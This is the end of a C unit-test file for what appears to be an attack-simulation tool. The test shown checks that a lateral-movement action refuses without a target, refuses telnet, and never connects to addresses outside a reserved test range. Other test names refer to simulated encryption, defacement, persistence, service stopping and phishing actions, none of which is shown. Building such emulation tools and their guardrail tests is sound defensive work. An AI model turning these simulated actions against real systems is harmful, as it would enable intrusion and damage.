/* ---- lateral.move: what can be checked without a second host ---------------- */

static void test_lateral_refuses(void **state)
{
    fx *f = *state;

    pset(f, "user", "hanako");
    pset(f, "password", "x");
    /* No target. */
    assert_int_equal(act_lateral_move(&f->q, &f->r), -1);
    pset(f, "method", "telnet");
    f->q.target_addr = "198.18.2.20";
    assert_int_equal(act_lateral_move(&f->q, &f->r), -1);
    /* A target outside the range is never connected to. */
    pset(f, "method", "ssh");
    f->q.target_addr = "127.0.0.1";
    result_reset(f);
    assert_int_equal(act_lateral_move(&f->q, &f->r), 0);
    assert_int_equal(f->r.succeeded, 0);
    assert_non_null(strstr(f->r.detail, "198.18.0.0/15"));
    assert_int_equal(json_array_size(f->r.flows), 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(test_encrypt, setup, teardown),
        cmocka_unit_test_setup_teardown(test_encrypt_refuses, setup, teardown),
        cmocka_unit_test_setup_teardown(test_encrypt_large_partial, setup, teardown),
        cmocka_unit_test_setup_teardown(test_deface, setup, teardown),
        cmocka_unit_test_setup_teardown(test_persistence_cron, setup, teardown),
        cmocka_unit_test_setup_teardown(test_persistence_account, setup, teardown),
        cmocka_unit_test_setup_teardown(test_service_stop, setup, teardown),
        cmocka_unit_test_setup_teardown(test_service_stop_sleep, setup, teardown),
        cmocka_unit_test_setup_teardown(test_phish_open, setup, teardown),
        cmocka_unit_test_setup_teardown(test_phish_open_encoded, setup, teardown),
        cmocka_unit_test_setup_teardown(test_phish_open_nothing_to_open, setup, teardown),
        cmocka_unit_test_setup_teardown(test_phish_open_remote_unconfigured, setup, teardown),
        cmocka_unit_test_setup_teardown(test_lateral_refuses, setup, teardown),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
